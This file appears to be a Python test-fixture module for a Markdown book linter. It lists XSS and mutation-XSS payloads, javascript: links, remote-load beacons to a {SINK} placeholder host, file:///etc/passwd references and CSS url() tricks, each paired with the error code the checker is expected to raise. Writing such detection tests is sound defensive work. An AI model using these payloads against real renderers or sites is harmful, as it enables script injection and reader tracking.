"""Raw HTML, addresses and Markdown that a reading system would run, open or follow."""

from __future__ import annotations

from collections.abc import Iterator

from row import BUILT, Row, Table

KEPT = ("principio", "final")
"""Where a refused element takes its own text with it."""


def rows() -> Iterator[Row]:
    for make in (scripts, handlers, remote, elements, schemes, attributes, confusing, styles, classes):
        yield from make().rows


def scripts() -> Table:
    table = Table("html-script")
    for payload in (
        "<script>alert(1)</script>", "<SCRIPT SRC=http://{SINK}/x.js></SCRIPT>", "<script\n>x()</script\n>",
        "<scr<script>ipt>x()</script>", "<script type=text/plain>x</script>",
        "<style>@import 'http://{SINK}/x.css';</style>", "<style>*{background:url(http://{SINK}/x)}</style>",
        "<noscript><p title=\"</noscript><img src=http://{SINK}/x>\">", "<template><img src=http://{SINK}/x></template>",
        "palabra<script>x()</script>palabra", "<p>palabra<script>x()</script></p>", "<svg><script>x()</script></svg>",
        "<svg><style>@import url(http://{SINK}/x)</style></svg>", "<math><script>x()</script></math>",
        "<canvas>x</canvas>", "<select><option>x</option></select>", "<form action=http://{SINK}/><input></form>",
    ):  # fmt: skip
        table.text(payload, "MD001", "5", words=KEPT)
    table.text("<script/src=//{SINK}/x>palabra")
    for tag in ("script", "style"):
        table.text(f"<{tag}>x", "MD005", "5:1", words=KEPT)
    for tag in ("noscript", "template", "canvas", "select"):
        table.text(f"<{tag}>x", "MD001", "5:1", words=KEPT)
        table.text(f"<{tag}>\nx\ny", "MD005", "5:1", words=KEPT)
    return table


def handlers() -> Table:
    table = Table("html-handler")
    for name in ("onclick", "onerror", "onload", "ONMOUSEOVER", "onfocus", "onbegin", "ontoggle", "onpointerrawupdate",
                 "onanimationend", "formaction", "ping", "srcdoc", "background", "bgcolor", "dynsrc", "lowsrc", "manifest",
                 "xlink:href", "xml:base", "is", "slot", "part", "nonce", "integrity", "crossorigin"):  # fmt: skip
        table.text(f'<p {name}="http://{{SINK}}/x">palabra</p>', "MD001", "5:1")
    table.text('<img src="cover.png" alt="x" onerror=alert(1)>', "MD001", "5:1")
    table.text('<svg viewBox="0 0 9 9" width="9" height="9" onload="x()"><g onclick="x()"></g></svg>', "MD001", "5:1")
    table.text('<p/onclick=x()>palabra</p>', "MD002", "5:23")
    table.text('<p title="a"onclick="x()">palabra</p>', "MD001", "5:1")
    table.text('<a href="#x" onclick\n=\n"x()">palabra</a>\n\n## x', "NM002", "5:1")
    return table


def remote() -> Table:
    table = Table("remote")
    for payload, code, place in (
        ("![texto](http://{SINK}/x.png)", "AS005", "5:1"), ("![texto](https://{SINK}/x.png)", "AS005", "5:1"),
        ("![texto](//{SINK}/x.png)", "AS005", "5:1"), ("![texto](http://{SINK}/302)", "AS005", "5:1"), ("![texto](ftp://{SINK}/x.png)", "AS005", "5:1"),
        ("![texto](HTTP://{SINK}/x.png)", "AS005", "5:1"), ("![texto](file:///etc/passwd)", "AS005", "5:1"),
        ("![texto](FILE:///etc/passwd)", "AS005", "5:1"), ("![texto](file://{SINK}/share/x.png)", "AS005", "5:1"),
        ("![texto](data:image/png;base64,iVBORw0KGgo=)", "AS005", "5:1"), ("![texto](data:text/html,<b>x)", "AS005", "5:1"),
        ("![texto](DATA:image/svg+xml,<svg/>)", "AS005", "5:1"), ("![texto](book:///font/x.ttf)", "AS001", "5:1"),
        ("![texto](asset:0000000000000000)", "AS001", "5:1"), ("![texto](gopher://{SINK}/x)", "AS001", "5:1"),
        ("![texto](http:x.png)", "AS005", "5:1"), ("![texto](javascript:x)", "AS001", "5:1"),
        ('<img alt="texto" src="http://{SINK}/x.png">', "AS005", "5:1"),
        ('<img alt="texto" srcset="http://{SINK}/x.png 2x">', "MD001", "5:1"),
        ('<img alt="texto" src="  http://{SINK}/x.png">', "AS005", "5:1"),
        ('<img alt="texto" src="ht&#116;p://{SINK}/x.png">', "AS005", "5:1"),
        ('<picture><source srcset="http://{SINK}/x.png"><img alt="texto" src="cover.png"></picture>', BUILT, ""),
        ('<iframe src="http://{SINK}/x"></iframe>', "SC015", "5:1"), ('<iframe srcdoc="<img src=http://{SINK}/>"></iframe>', "SC015", "5:1"),
        ('<object data="http://{SINK}/x"></object>', "SC015", "5:1"), ('<embed src="http://{SINK}/x">', "SC015", "5:1"),
        ('<video src="http://{SINK}/x" poster="http://{SINK}/y"></video>', "SC015", "5:1"),
        ('<audio><source src="http://{SINK}/x"></audio>', "SC015", "5:1"), ('<link rel=stylesheet href="http://{SINK}/x">', "MD001", "5:1"),
        ('<link rel=attachment href="file:///etc/passwd">', "MD001", "5:1"), ('<base href="http://{SINK}/">', "MD001", "5:1"),
        ('<meta http-equiv=refresh content="0;url=http://{SINK}/">', "MD001", "5:1"),
        ('<input type=image src="http://{SINK}/x">', "MD001", "5:1"), ('<table background="http://{SINK}/x"><tr><td>palabra</td></tr></table>', "MD001", "5:1"),
        ('<body background="http://{SINK}/x">', "MD001", "5:1"), ('<bgsound src="http://{SINK}/x">', "MD001", "5:1"),
        ('<a rel="attachment" href="{OUT}/secret.txt">palabra</a>', "LK003", "5:1"),
        ('<blockquote cite="http://{SINK}/x">palabra</blockquote>', BUILT, ""),
        ('<blockquote cite="javascript:x()">palabra</blockquote>', "MD001", "5:1"),
        ('<q cite="data:text/html,x">palabra</q>', "MD001", "5:1"),
        ('<p href="http://{SINK}/x">palabra</p>', "MD001", "5:1"), ('<p src="http://{SINK}/x">palabra</p>', "MD001", "5:1"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><image href="http://{SINK}/x"/></svg>', "MD001", "5"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><use href="http://{SINK}/x#a"/></svg>', "MD001", "5"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><use xlink:href="file:///etc/passwd#a"/></svg>', "MD001", "5"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><rect fill="url(http://{SINK}/x#a)"/></svg>', "MD001", "5"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><rect fill="u\\72l(http://{SINK}/x)"/></svg>', "MD001", "5"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><rect mask="url(\'http://{SINK}/x\')"/></svg>', "MD001", "5"),
        ('<svg viewBox="0 0 9 9" width="9" height="9"><feImage href="http://{SINK}/x"/></svg>', "MD001", "5"),
        ('<math><mi href="http://{SINK}/x">x</mi></math>', "MD001", "5"),
        ('<math><mtext><img src="http://{SINK}/x" alt="texto"></mtext></math>', "AS005", "5"),
        ("[palabra]: http://{SINK}/x 'y'\n\n![palabra]", "AS005", "7:1"),
        ('{{< figure src="http://{SINK}/x.png" alt="texto" >}}', "AS005", "5:1"),
        ('{{< openapi src="http://{SINK}/x.json" >}}', "SC015", "5:1"), ('{{< asciinema cast="http://{SINK}/x.cast" >}}', "SC015", "5:1"),
    ):  # fmt: skip
        table.text(payload, code, place, words=("principio", *(("palabra",) if ">palabra<" in payload else ()), "final"))
    return table


def elements() -> Table:
    table = Table("html-element")
    for name in ("plaintext", "xmp", "listing", "textarea", "title", "marquee", "blink", "applet", "frameset", "frame",
                 "isindex", "keygen", "dialog", "portal", "fencedframe", "button", "label", "html", "head", "body", "x-y",
                 "image", "nobr", "acronym", "dir", "menu", "search", "slot", "object2"):  # fmt: skip
        table.text(f"<{name}>palabra</{name}>", "MD001", "5:1")
    return table


def schemes() -> Table:
    table = Table("link-scheme")
    for address in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:x", "data:text/html,x", "file:///etc/passwd",
                    "livescript:x", "about:blank", "blob:x", "chrome://x", "view-source:http://x", "intent:x", "ms-word:x",
                    "jar:http://x!/y", "feed:javascript:x", "res://x", "smb://{SINK}/x", "ssh://x", "steam:x"):  # fmt: skip
        table.text(f"[palabra](<{address}>)", "LK002", "5:1")
        table.text(f'<a href="{address}">palabra</a>', "LK002", "5:1")
    for address in ("java&#115;cript:x()", "&#x6A;avascript:x()", "javascript&colon;x()"):
        table.text(f"[palabra](<{address}>)", "LK002", "5:1")
        table.text(f'<a href="{address}">palabra</a>', "LK002", "5:1")
    table.text("[palabra][1]\n\n[1]: javascript:x()", "LK002", "5:1")
    table.text("<javascript:x()> palabra", "LK002", "5:1")
    table.text('{{< button href="javascript:x()" >}}palabra{{< /button >}}', "LK002", "5")
    table.text('[palabra](<  javascript:x()>)', "LK002", "5:1")
    table.text("[palabra](java\tscript:x())", BUILT, "")
    table.text('<a href="java\tscript:x()">palabra</a>', "LK003", "5:1")
    table.text('<a href="\x01javascript:x()">palabra</a>', "RD004", "5:10")
    table.text("[palabra](https://a@b:c@[::1/%zz?q=\"'<>#x)", paper=("PR002", "a.md:1"))
    table.text("[palabra](http://" + "a" * 5000 + ")", BUILT, "")
    table.text("[palabra](mailto:a@b?body=%0d%0aBcc:x)", BUILT, "")
    return table


def attributes() -> Table:
    table = Table("attribute-list")
    for braces, code, place in (
        ('onclick="x()"', "MD001", "5:1"), ('style="background:url(http://{SINK}/x)"', BUILT, ""), ('src="http://{SINK}/x"', "MD001", "5:1"),
        ('href="javascript:x"', "MD001", "5:1"), ('data-section="x"', BUILT, ""), ("onerror=x", "MD001", "7:1"),
        ('xlink:href="http://{SINK}/"', "MD001", "5:1"), ('title="&quot;><script>x</script>"', BUILT, ""),
        ('class="a&quot; onclick=&quot;x"', BUILT, ""), ('#a"onclick="x', "LK001", "5:1"), (".a{.b}", "LK001", "5:1"),
        ('id="a b"', "LK006", "7:1"), ('lang="\\"><x"', BUILT, ""),
    ):  # fmt: skip
        table.text(f"[palabra](#x){{{braces}}}\n\n## x {{{braces}}}", code, place, words=("principio", "palabra", "final"))
    table.text("![palabra](cover.png){src=http://{SINK}/x}", words=KEPT)
    table.text('![palabra](cover.png){width="1;background:url(http://{SINK}/x)"}', words=KEPT)
    return table


SAID = {
    "<a<b>palabra": ("MD002", "5:3"), "<p <b>palabra</b></p>": ("MD002", "5:14"), "</p><p>palabra</p></div></body></html>": ("MD002", "5:1"),
    "<b><i>palabra</b></i>": ("MD002", "5:4"), "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>": ("MD001", "5:1"),
    "<math><annotation-xml encoding='text/html'><p>palabra</p></annotation-xml></math>": ("MD001", "5:7"),
    "<noscript><style></noscript><img src=x>": ("AS001", "5:29"), "<h1><h2>palabra</h1></h2>": ("MD002", "5:5"),
    "<div>\n\n<div>\n\npalabra\n\n</div>": ("MD002", "5:1"), "<ruby>palabra<rt>palabra</ruby>": ("MD002", "5:14"),
    "<ins>palabra<del>palabra</ins></del>": ("MD002", "5:13"),
}  # fmt: skip
"""What a parser of HTML would mend in silence; of the rest there is nothing to say."""


def confusing() -> Table:
    """What one parser reads otherwise than another (mutation XSS)."""
    table = Table("html-confusing")
    for payload in (
        "<!-- palabra", "<!-->palabra-->", "<!--->palabra", "<!--x--!>palabra", "<![CDATA[palabra]]>", "<!DOCTYPE x [<!ENTITY a 'b'>]>palabra&a;",
        "<?php palabra ?>", "<?xml-stylesheet href='http://{SINK}/x'?>", "<a<b>palabra", "<p <b>palabra</b></p>", "</p><p>palabra</p></div></body></html>",
        "<div palabra", "<p title='a\" b=\"'>palabra</p>", "<b><i>palabra</b></i>", "<p><p><p>palabra", "<table><p>palabra</p></table>",
        "<table><tr><td><table><tr><td>palabra</td></tr></table></td></tr></table>", "<a href='#x'><a href='#x'>palabra</a></a>\n\n## x",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>", "<math><annotation-xml encoding='text/html'><p>palabra</p></annotation-xml></math>",
        "<svg><desc><p>texto</p></desc></svg>", "<svg><p>palabra</p></svg>", "<noscript><style></noscript><img src=x>", "<p>&lt;script&gt;palabra&lt;/script&gt;</p>",
        "&#0;palabra&#x1;&#xD800;&#x110000;&#xFFFE;", "&amp;lt;palabra&notanentity;", "<pre>\n<b>palabra</b></pre>", "<li>palabra<li>palabra", "<tr><td>palabra",
        "<h1><h2>palabra</h1></h2>", "<br></br>palabra</br>", "<img src=cover.png alt='>palabra'>", "<IMG SRC=cover.png ALT=x></IMG>palabra",
        "<div>\n\n<div>\n\npalabra\n\n</div>", "<details open><summary>palabra</summary>palabra</details>", "<ruby>palabra<rt>palabra</ruby>",
        "<ol start=99999999999999999999><li value=-5>palabra</ol>", "<ol start='1e9' reversed><li>palabra</ol>", "<p lang='x\"><b>'>palabra</p>",
        "<p dir=rtl>palabra</p>", "<bdo dir=rtl>palabra</bdo>", "<p id='a b'>palabra</p>", "<p id=''>palabra</p>", "<p id='1'>palabra</p><p id='2'>palabra</p>",
        "<time datetime='x'>palabra</time>", "<p role='doc-x' epub:type='x y'>palabra</p>", "<ins>palabra<del>palabra</ins></del>",
        "<![if IE]>palabra<![endif]>", "<!--[if IE]><script>x</script><![endif]-->palabra", "<%palabra%>", "<#palabra>", "<//palabra>", "<:palabra>",
    ):  # fmt: skip
        hidden = payload.startswith(("<!--", "<![CDATA", "<?", "<!DOC")) and "-->palabra" not in payload
        words = KEPT if hidden or "form" in payload or "alt='" in payload else None
        if payload in {"<div palabra"}:
            words = KEPT
        code, place = SAID.get(payload, (BUILT, ""))
        table.text(payload, code, place, words=words, paper=("PR002", "a.md:1") if "lang=" in payload else None)
    table.text('<p id="x">palabra</p><p id="x">palabra</p>', "LK006", "5")
    return table


def styles() -> Table:
    table = Table("style")
    for value in ("background:url(http://{SINK}/x)", "display:none", "position:fixed", "expression(x())", "-moz-binding:url(x)",
                  "content:url(file:///etc/passwd)", "float:footnote", "font-size:1e9px", "width:1e30px", "color:red;}*{x"):  # fmt: skip
        table.text(f'<p style="{value}">palabra</p>')
        table.text(f'<span style="{value}">palabra</span>{{style="{value}"}}')
    table.text('<ul style="list-style-image:url(http://{SINK}/x)"><li>palabra</li></ul>')
    return table


def classes() -> Table:
    """Names that the book's own style sheet knows."""
    table = Table("class")
    for name in ("footnote", "columns", "media", "missing-picture", "literal", "long-word", "note-call", "only-print", "only-ebook", "author-notes", "notes-title", "unlisted", "display-page",
                 "first-of-body", "contents", "code-line", "banner", "figure", "entry", "chapter-title", "role-part"):  # fmt: skip
        table.text(f'<div class="{name}">palabra</div>')
        table.text(f'palabra <span class="{name}">palabra</span>')
        table.text(f"palabra [palabra]{{.{name}}}")
    return table
